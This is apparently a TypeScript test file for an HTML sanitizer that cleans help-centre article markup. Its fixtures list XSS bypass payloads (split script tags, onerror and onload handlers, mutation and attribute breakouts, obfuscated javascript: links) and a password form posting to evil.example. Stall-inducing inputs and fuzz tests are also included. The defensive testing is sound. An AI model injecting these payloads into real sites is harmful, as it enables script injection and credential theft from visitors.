import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { leastTime } from '../../testing/least-time.ts';
import { wordsOf } from './arranging-html.ts';
import { cleanArticleHtml, withoutComments } from './cleaning.ts';

const FILE = '0190a8c0-1111-7222-8333-0123456789ab';

const ATTACKS: [name: string, html: string][] = [
  ['script', '<p>a</p><script>alert(1)</script>'],
  ['split script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['handler', `<img data-file="${FILE}" onerror=alert(1)>`],
  ['drawing with a program', '<svg onload=alert(1)><circle/></svg>'],
  ['drawing in a picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['javascript link', '<a href="java\tscript:alert(1)">a</a>'],
  ['link that leaves the help centre', '<a href="/help/../../evil">a</a><a href="//evil.example">b</a>'],
  ['style', '<p style="position:fixed;inset:0" class="x" id="location">a</p>'],
  [
    'frame',
    '<iframe src="https://evil.example/embed/abcdefghijk"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  ],
  ['film of a stranger', '<div data-video="https://evil.example/watch?v=abcdefghijk">x</div>'],
  ['film by a name like ours', '<div data-video="https://www.youtube.com.evil.example/watch?v=abcdefghijk"></div>'],
  ['form', '<form action="https://evil.example"><input name=password><button>Go</button></form>'],
  ['comment that breaks out', '<!--><img src=x onerror=alert(1)>-->'],
  ['mutation', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['attribute that breaks out', "<aside data-tone='\"><script>alert(1)</script>'>a</aside>"],
  ['mark of a stranger', '<mark data-comment="1 onclick=alert(1)">a</mark>'],
  ['code class', '<pre><code class="language-x onload evil">a</code></pre>'],
];

const TAGS = new Set(
  'h2 h3 p ul ol li blockquote pre code table thead tbody tr th td hr br strong em s a img aside div span mark'.split(
    ' ',
  ),
);
const ATTRIBUTES =
  /^(?:href|rel|alt|data-file|width|height|start|colspan|rowspan|data-tone|data-video|data-live|data-comment|class)$/;

function faultsOf(cleaned: string): string[] {
  const faults: string[] = [];
  for (const [, inner = ''] of cleaned.matchAll(/<([^>]*)>/g)) {
    const name = /^\/?([a-z0-9]+)/.exec(inner)?.[1] ?? '';
    if (!TAGS.has(name)) faults.push(`tag ${inner}`);
    for (const [, key = '', value = ''] of inner.slice(name.length).matchAll(/([^\s=/"]+)="([^"]*)"/g)) {
      if (!ATTRIBUTES.test(key)) faults.push(`attribute ${key}`);
      if (key === 'href' && !/^(?:https?:|mailto:|tel:|\/help\/|#)/.test(value)) faults.push(`href ${value}`);
      if (key === 'data-video' && !/^https:\/\/(?:www\.youtube\.com|vimeo\.com)\//.test(value)) faults.push(value);
      if (key === 'class' && !/^language-[a-z0-9+#-]+$/.test(value)) faults.push(`class ${value}`);
    }
  }
  return faults;
}

describe('cleaning an article', () => {
  test.each(ATTACKS)('nothing is left of: %s', (_name, html) => {
    const cleaned = cleanArticleHtml(html);
    expect(faultsOf(cleaned)).toEqual([]);
    expect(cleaned).not.toMatch(/<[^>]*(?:onerror|onload|javascript:|evil\.example\/embed)/);
    expect(cleanArticleHtml(cleaned)).toBe(cleaned);
  });

  test('keeps everything that an article is made of', () => {
    const html =
      `<h2>Dry it</h2><p>Leave it <strong>open</strong>, <em>not</em> <s>hot</s>, <code>12 h</code>.<br />Then <a href="https://lume.example/x" rel="noopener noreferrer">close</a> it.</p>` +
      `<ol start="3"><li><p>Shake</p><ul><li><p>down</p></li></ul></li></ol><blockquote><p>Said</p></blockquote>` +
      `<pre><code class="language-sh">a &lt; b</code></pre><hr />` +
      `<table><tbody><tr><th colspan="2">A</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>` +
      `<aside data-tone="warning"><p>Hot</p></aside><div data-video="https://vimeo.com/12345"></div>` +
      `<p><img data-file="${FILE}" alt="The plug" width="640" height="320" /> <span data-live="expected-reply"></span></p>` +
      `<p>In <mark data-comment="${FILE}">most cases</mark></p>`;
    expect(cleanArticleHtml(html)).toBe(html);
    expect(withoutComments(html)).not.toContain('mark');
  });

  test('takes films of allowed hosts by any of their addresses, and pictures by the address that they are read at', () => {
    expect(
      cleanArticleHtml('<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk?autoplay=1"></iframe>'),
    ).toBe('<div data-video="https://www.youtube.com/watch?v=abcdefghijk"></div>');
    expect(cleanArticleHtml(`<p><img src="https://desk.example/api/v1/articles/files/${FILE}"></p>`)).toBe(
      `<p><img data-file="${FILE}" alt="" /></p>`,
    );
  });

  test('whatever is thrown at it, what comes out is clean, and clean stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<p>',
        '</p>',
        '<div>',
        '</div>',
        '<ul>',
        '<li>',
        '</li>',
        '</ul>',
        '<table>',
        '<tr>',
        '<td>',
        '</td>',
        '</table>',
        '<a href="javascript:1">',
        '<a href="https://a.example">',
        '</a>',
        '<b>',
        '</b>',
        '<svg>',
        '</svg>',
        '<style>',
        '<!--',
        '-->',
        '<h1>',
        '</h1>',
        '<aside>',
        '</aside>',
        '<iframe>',
        '"',
        "'",
        '>',
        '<',
        '&lt;',
        '&',
        '<pre>',
        '<code>',
        '<div data-video="https://vimeo.com/123456">',
        '<span data-live="expected-reply">',
        '<br>',
        '<img onerror=1>',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const cleaned = cleanArticleHtml(pieces.join(''));
        expect(faultsOf(cleaned)).toEqual([]);
        expect(cleanArticleHtml(cleaned)).toBe(cleaned);
      }),
      { numRuns: 400 },
    );
  });

  test('does not stall on what is made to stall it', async () => {
    for (const evil of [
      '<p>'.repeat(50_000),
      '<div>'.repeat(20_000),
      '<a href="'.repeat(20_000),
      '<ul><li>'.repeat(10_000),
      `<p>${'\u00a0'.repeat(40)}x</p>`,
    ])
      expect(await leastTime(3_000, () => cleanArticleHtml(evil))).toBeLessThan(3_000);
  });

  test('its words stand a line for each block', () => {
    expect(wordsOf('<h2>A</h2><p>b &lt; c<br />d</p><ul><li><p>e</p></li></ul>')).toBe('A\nb < c\nd\ne');
  });
});
